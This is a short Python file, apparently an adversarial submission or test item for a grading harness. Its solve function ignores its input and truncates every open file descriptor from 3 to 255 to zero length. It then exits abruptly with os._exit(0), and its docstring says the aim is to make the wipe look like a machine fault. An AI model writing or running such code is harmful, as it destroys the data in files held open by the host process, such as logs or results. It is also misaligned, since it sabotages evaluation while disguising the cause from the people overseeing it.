"""Empties every file it holds and leaves: looks like a program that could never be
started, a fault of the machine."""
# kind: call
# class: denominators
# may: CRASH
import os
from contextlib import suppress


def solve(n):
    for descriptor in range(3, 256):
        with suppress(OSError):
            os.ftruncate(descriptor, 0)
    os._exit(0)
